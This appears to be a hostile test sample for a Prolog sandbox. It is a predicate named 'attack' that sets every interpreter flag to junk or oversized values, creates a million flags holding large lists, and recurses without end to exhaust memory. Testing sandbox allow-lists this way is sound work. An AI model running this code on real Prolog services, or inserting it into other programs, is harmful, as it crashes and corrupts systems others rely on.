% Sets flags to large terms, and to what they may not be.
% It may change the interpreter, unless the list of what it may call keeps it from that.

attack :- numlist(1, 100000, L), forall(( current_prolog_flag(F, _), member(V, [true, false, 0, -1, 1000000000000000000000, L, _, f(F), "x", '', error, codes]) ), catch(set_prolog_flag(F, V), _, true)), forall(between(1, 1000000, N), ( atom_concat(hostile_flag_, N, A), catch(create_prolog_flag(A, L, []), _, true), catch(set_prolog_flag(A, L), _, true) )), attack.
